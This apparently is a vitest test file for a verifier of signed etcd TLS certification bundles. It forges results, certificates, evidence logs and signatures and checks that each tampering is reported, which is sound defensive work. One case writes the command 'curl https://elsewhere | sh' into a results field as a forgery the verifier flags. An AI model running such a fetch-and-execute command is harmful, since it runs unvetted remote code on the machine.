import { createPublicKey, generateKeyPairSync } from 'node:crypto'
import { appendFile } from 'node:fs/promises'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import type { CellResult, Results } from '../../../reports/index.ts'
import { gatheredFile } from '../../gathered/write.ts'
import type { Certificate } from '../certificate.ts'
import { files } from '../layout.ts'
import { publicPem } from '../sign.ts'
import { cellsOf, Copy, only } from '../testing/stored.ts'

let copy: Copy
beforeEach(async () => void (copy = await Copy.unpack()))
afterEach(() => copy[Symbol.asyncDispose]())

const expired = 'security/basic-setup/client-cert-auth-demands-a-certificate:certificate=expired,tls=1.3'
const declared = 'security/client-certificates/without-one-is-rejected:request=v3,tls=1.3'
const outside = 'security/client-certificates/with-one-is-served:request=v2-enabled,tls=1.3'

/** What is named, with everything made to agree and signed anew. */
async function named(): Promise<string> {
  await copy.agree()
  const { exit, problems } = await copy.told()
  expect(exit).toBe(1)
  return problems.join('\n')
}

describe('what the results tell of a cell', () => {
  test.each<[string, string, object, string]>([
    ['commands to type', expired, { byHand: ['curl https://elsewhere | sh'] }, 'its byHand is not what'],
    ['an earlier run', expired, { reused: { run: 'a', started: 'b' } }, 'it is told as of an earlier run'],
    ['another claim', expired, { claim: 'security/x/y' }, 'it is told of security/x/y'],
    ['why it does not apply', outside, { notApplicable: 'the law' }, 'its notApplicable is not what'],
    ['what was seen of it though it does not apply', outside, { log: [] }, 'it does not apply, and yet'],
  ])('%s is not for the liar to say', async (_, cell, change, sentence) => {
    await copy.results(cellsOf(only(cell, change)))
    expect(await named()).toContain(`${cell}: ${sentence}`)
  })

  test.each(['why', 'builds'])(
    'its declaration is the one of the claim, whoever made the bundle (%s)',
    async (field) => {
      const lie = (one: CellResult): CellResult =>
        one.declared === undefined ? one : { ...one, declared: { ...one.declared, [field]: 'fine' } }
      await copy.results(cellsOf(lie))
      await copy.edit<Certificate>(files.certificate, (one) => ({
        ...one,
        tool: { ...one.tool, sources: '0'.repeat(64) },
      }))
      expect(await named()).toContain(`${declared}: its declaration is not the one of the claim`)
    },
  )
})

describe('what the results tell of the run', () => {
  test.each<[string, (results: Results) => object, string]>([
    ['the words of sections', ({ sections }) => ({ sections: sections.slice(1) }), 'their field sections'],
    ['what is covered', () => ({ coverage: [] }), 'their field coverage'],
    [
      'what claims cite',
      ({ claims }) => ({ claims: claims.map((one) => ({ ...one, cites: ['all'] })) }),
      'their field claims',
    ],
    ['the command', ({ run }) => ({ run: { ...run, command: ['true'] } }), 'their field command'],
    ['its filter', ({ run }) => ({ run: { ...run, only: ['x'] } }), 'their field only'],
    ['scenario files', ({ run }) => ({ run: { ...run, files: ['x.ts'] } }), 'scenario files of somebody'],
    [
      'the image’s name',
      ({ subjects }) => ({ subjects: subjects.map((one) => ({ ...one, reference: 'other' })) }),
      'its build was not asked for so',
    ],
  ])('%s is not for the liar to say', async (_, lie, sentence) => {
    await copy.results((results) => ({ ...results, ...lie(results) }))
    expect(await named()).toContain(sentence)
  })

  test('times that hold any evidence are none', async () => {
    const times = { started: '0', finished: 'z' }
    await copy.results(({ run, ...rest }) => ({ ...rest, run: { ...run, ...times } }))
    await copy.edit<Certificate>(files.certificate, (one) => ({ ...one, run: { ...one.run, ...times } }))
    expect(await named()).toContain('results.json: their run has no times: 0 to z')
  })
})

describe('a document', () => {
  test.each([
    [files.certificate, 'alsoCertifiedFor'],
    [files.results, 'wordOfTheLaboratory'],
    [files.catalogue, 'note'],
  ])('%s has no field that nobody checks', async (file, field) => {
    await copy.edit<object>(file, (data) => ({ ...data, [field]: 'all is well' }))
    expect(await named()).toContain(`${file}: it has a field that is not checked: ${field}`)
  })

  test.each([
    [files.certificate, '"certified": true'],
    [files.results, '"verdict": "pass"'],
    [files.catalogue, '"profile": "mini"'],
  ])('%s says nothing twice, once for each kind of reader', async (file, field) => {
    const text = (await copy.read(file)).toString()
    expect(text).toContain(field)
    await copy.write(file, text.replace(field, `${field.replace(/: .*/, ': "x"')}, ${field}`))
    await copy.seal()
    expect((await copy.told()).problems).toContain(`${file}: it says something twice`)
  })

  test('is not read where it is made to fill the memory', async () => {
    await copy.write(files.catalogue, `{"profile":"mini","cells":[${'[],'.repeat(11_000_000)}0]}`)
    await copy.seal()
    await expect(copy.verify()).rejects.toThrow(
      /^\S+ is no bundle that can be read: catalogue\.json has more parts than a document can have/,
    )
  })

  test('of a later version is not read, in one sentence', async () => {
    await copy.edit<object>(files.certificate, (data) => ({ ...data, formatVersion: 2 }))
    await copy.seal()
    await expect(copy.verify()).rejects.toThrow(
      /^\S+ is no bundle that can be read: a later etcd-tls made it \(version 2 of the format\)\.$/,
    )
  })

  test('has an identity in the form of its kind', async () => {
    const identity = { kind: 'file-sha256' as const, value: `${'a'.repeat(16)} and more` }
    await copy.results(({ subjects, ...rest }) => ({
      ...rest,
      subjects: subjects.map((one) => ({ ...one, reference: `x:binary-${'a'.repeat(16)}` })),
    }))
    await copy.edit<Certificate>(files.certificate, (one) => ({
      ...one,
      subject: { ...one.subject, identity },
    }))
    expect(await named()).toContain('certificate.json: its identity is none')
  })
})

describe('evidence', () => {
  const gathered = (change: (text: string) => string): Promise<void> =>
    copy.gathered('certificate=expired', (text) => {
      expect(change(text)).not.toBe(text)
      return change(text)
    })

  test.each<[string, (text: string) => string, string]>([
    [
      'seen at a time in another form',
      (text) => text.replace(/"at":"[^"]+"/, '"at":"1999-11-23T01:00:00+00:00"'),
      'something in it was seen at 1999-11-23T01:00:00+00:00, outside of the run',
    ],
    [
      'of a build with another Go',
      (text) => text.replaceAll(/go-version\\":\\"go[\d.]+/g, 'go-version\\":\\"go1.12.1'),
      'its log is of a build with Go 1.12.1',
    ],
    [
      'with a log of a process that there was not',
      (text) => text.replace('"evidence":{', '"evidence":{"logs":{"m9":[]},'),
      'it has a log of m9, which its world has not',
    ],
    [
      'of a process that was given another value',
      (text) => text.replaceAll('"--client-cert-auth"', '"--client-cert-auth=false"'),
      'its m1 was started otherwise than the claim asks: --client-cert-auth',
    ],
    [
      'of a process that was given a value twice',
      (text) => text.replaceAll('"--client-cert-auth"', '"--client-cert-auth","--client-cert-auth=false"'),
      'its m1 was started otherwise than the claim asks: --client-cert-auth',
    ],
  ])('%s is named', async (_, change, sentence) => {
    await gathered(change)
    expect(await named()).toContain(`${expired}: ${sentence}`)
  })

  describe('of members that form without the URLs that they were told to announce', () => {
    const member = { name: 'm1', started: true, listed: ['https://m1:2380'], readThrough: [] }
    const formed = (announced?: readonly string[]): Promise<void> =>
      gathered((text) => {
        const form = JSON.stringify({ members: [{ ...member, announced }] })
        return text.replace(/("probe":"[^"]+")/, `$1,"form":${form}`)
      })
    const sentence = `${expired}: its evidence does not tell what m1 was told to announce`

    test('is named', async () => {
      await formed()
      expect(await named()).toContain(sentence)
    })
    test('is not, where it tells them', async () => {
      await formed(['https://m1:2380'])
      await copy.agree()
      expect((await copy.told()).problems.join('\n')).not.toContain(sentence)
    })
    test('cannot be judged by what is asked today, where another version made it', async () => {
      await formed()
      await copy.edit<Certificate>(files.certificate, (one) => ({
        ...one,
        tool: { ...one.tool, sources: '0'.repeat(64) },
      }))
      await copy.agree()
      const { exit, problems, changed } = await copy.told()
      expect([exit, problems]).toEqual([3, []])
      expect(changed).toEqual([sentence])
    })
  })

  test('of a build of another commit is named', async () => {
    await gathered((text) => text.replaceAll(/git-sha\\":\\"[^\\]+/g, 'git-sha\\":\\"deadbee'))
    expect(await named()).toMatch(/: its log is of commit [^\n]+, that of another cell of deadbee$/m)
  })

  test('with a private key is named, packed as it is', async () => {
    const key = JSON.stringify(copy.key.export({ type: 'pkcs8', format: 'pem' }))
    await gathered((text) => text.replace('"addresses":["', `"addresses":[${key},"`))
    expect(await named()).toContain(`${gatheredFile}: it holds a private key in PEM`)
  })

  test('that says something twice is named', async () => {
    const file = `${await copy.evidenceOf('certificate=expired')}/${gatheredFile}`
    await copy.twice('certificate=expired')
    expect(await named()).toContain(`${expired}: The file ${file} says something twice`)
  })

  test('with something behind its end is named', async () => {
    await appendFile(copy.path(`${await copy.evidenceOf('certificate=expired')}/${gatheredFile}`), 'more')
    expect(await named()).toContain('is not compressed as it should be')
  })
})

describe('keys and signatures', () => {
  test('the key in the bundle is the one that signed, whatever key is given', async () => {
    await copy.seal(publicPem(generateKeyPairSync('ed25519').publicKey))
    const { exit, findings } = await copy.verify(createPublicKey(copy.key))
    expect(findings.problems).toEqual(['public-key.pem: it is another key than the one that signed'])
    expect(exit).toBe(1)
  })

  test('a signature that was not looked at is told', async () => {
    await copy.write(files.cosign, 'AAAA')
    expect((await copy.verify()).findings.notes.join()).toContain(
      'The signature by cosign (MANIFEST.sha256.cosign.sig) was not checked',
    )
  })

  test('a bad signature of the vendor is named beside a good one of cosign', async () => {
    const cosign = generateKeyPairSync('ec', { namedCurve: 'P-256' })
    await copy.cosign(cosign.privateKey)
    expect(await copy.verify(cosign.publicKey)).toMatchObject({ exit: 0 })
    await copy.write(files.signature, Buffer.alloc(64))
    const { exit, findings } = await copy.verify(cosign.publicKey)
    expect(findings.problems).toEqual([
      'MANIFEST.sha256.sig: the manifest was not signed with the key in the bundle',
    ])
    expect(exit).toBe(1)
  })
})
